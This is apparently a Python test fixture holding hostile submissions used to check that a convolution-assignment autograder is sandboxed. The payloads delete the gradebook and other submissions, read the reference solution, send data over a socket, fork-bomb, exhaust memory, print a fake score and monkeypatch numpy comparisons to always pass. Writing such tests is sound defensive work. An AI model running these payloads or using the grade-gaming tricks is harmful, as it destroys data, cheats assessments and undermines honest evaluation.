"""Hostile submissions, shared by the command-line and the nbgrader suites.

Each case replaces conv2d_backward (part "2d") with code that attacks the
grader, and keeps the honest conv2d_forward, so the expected grade is exact:
forward keeps its 4.5 points of the part's 15; dx, dw and db earn 0.
``words`` must appear in the part's feedback. Paths are filled in by the
suites (``{root}``: the kit, ``{course}``: the nbgrader course or the
submission's folder).
"""
import hashlib
import textwrap
from pathlib import Path


def _backward(body):
    return "def conv2d_backward(dy, x, w, stride=1, pad=0):\n" + textwrap.indent(textwrap.dedent(body), "    ")


CASES = {
    # name: (code defining conv2d_backward, words the feedback must contain)
    "imports the reference": (_backward("""
        from solutions.reference.vectorized import conv2d_backward as reference
        return reference(dy, x, w, stride, pad)"""), "ModuleNotFoundError"),
    "imports the grader": (_backward("""
        import autograder.engine.misconceptions
        return honest_backward(dy, x, w, stride, pad)"""), "ModuleNotFoundError"),
    "reads the reference file": (_backward("""
        exec(open("{root}/solutions/reference/loops.py").read())
        return conv2d_backward(dy, x, w, stride, pad)"""), "FileNotFoundError"),
    "writes into the kit": (_backward("""
        open("{root}/PWNED", "w").write("x")
        return honest_backward(dy, x, w, stride, pad)"""), "Error"),
    "deletes the reference": (_backward("""
        import shutil
        shutil.rmtree("{root}/solutions")
        return honest_backward(dy, x, w, stride, pad)"""), "FileNotFoundError"),
    "deletes the gradebook and the other submissions": (_backward("""
        import shutil
        for name in ("gradebook.db", "submitted", "autograded", "source"):
            try:
                os.remove("{course}/" + name)
            except IsADirectoryError:
                shutil.rmtree("{course}/" + name)
        return honest_backward(dy, x, w, stride, pad)"""), "FileNotFoundError"),
    "talks to the network": (_backward("""
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak")
        return honest_backward(dy, x, w, stride, pad)"""), "Error"),
    "fork storm": (_backward("""
        while True:
            os.fork()"""), ""),
    "thread storm": (_backward("""
        while True:
            threading.Thread(target=lambda: __import__('time').sleep(60)).start()"""), ""),
    "memory exhaustion": (_backward("""
        hog = np.ones(50 * 1024 ** 3 // 8)
        return honest_backward(dy, x, w, stride, pad)"""), "MemoryError"),
    "huge output": (_backward("""
        while True:
            print("spam" * 1000)"""), "did not finish"),
    "huge file": (_backward("""
        with open("big", "wb") as f:
            while True:
                f.write(b"0" * 10 ** 6)"""), "File too large"),
    "raises SystemExit": (_backward("""
        raise SystemExit(0)"""), "SystemExit"),
    "calls os._exit": (_backward("""
        os._exit(0)"""), "ended the Python process"),
    "prints a fake score": (_backward("""
        print('{{"score": 100.0, "max_score": 100.0}}')
        print(15.0)
        return np.zeros_like(x), np.zeros_like(w), 0.0"""), "dx is wrong"),
    "patches numpy's comparisons": (textwrap.dedent("""
        np.allclose = lambda *args, **kwargs: True
        np.testing.assert_allclose = lambda *args, **kwargs: None
        np.array_equal = lambda *args, **kwargs: True
        np.random.default_rng = lambda *args, **kwargs: None
        def conv2d_backward(dy, x, w, stride=1, pad=0):
            return np.zeros_like(x), np.zeros_like(w), 0.0"""), "dx is wrong"),
    "patches sys.modules": (textwrap.dedent("""
        sys.modules["json"] = None
        sys.modules["numpy"].savez = lambda *args, **kwargs: None
        def conv2d_backward(dy, x, w, stride=1, pad=0):
            return np.zeros_like(x), np.zeros_like(w), 0.0"""), ""),
    "leaves a process behind": (_backward("""
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True)
        return np.zeros_like(x), np.zeros_like(w), 0.0"""), "dx is wrong"),
}

IMPORTS = "import os, sys, socket, threading, subprocess\nimport numpy as np\n"


def code(name, root, course, port):
    """The hostile definition of case ``name`` with its paths and port filled in."""
    return CASES[name][0].format(root=root, course=course, port=port)


def module(name, root, course, port):
    """The case as a Python file next to honest_loops.py (for ``python -m autograder grade``)."""
    return (IMPORTS + "from honest_loops import conv2d_forward, conv2d_backward as honest_backward\n\n"
            + code(name, root, course, port))


def notebook_cell(name, root, course, port):
    """The case as a notebook cell after the honest solution, its attack also run in the kernel."""
    return (IMPORTS + "honest_backward = conv2d_backward\n\n" + code(name, root, course, port) + "\n\n"
            "# The same attack, run in the notebook's own kernel:\n"
            "try:\n"
            "    conv2d_backward(np.ones((2, 2)), np.ones((3, 3)), np.ones((2, 2)))\n"
            "except BaseException as error:\n"
            "    print(type(error).__name__, error)\n")


def tree_digest(*folders):
    """One hash of every file's path and bytes under ``folders`` (caches left out)."""
    digest = hashlib.sha256()
    for folder in folders:
        for path in sorted(Path(folder).rglob("*")):
            if "__pycache__" in path.parts or ".pytest_cache" in path.parts:
                continue
            digest.update(str(path).encode())
            if path.is_file():
                digest.update(path.read_bytes())
    return digest.hexdigest()
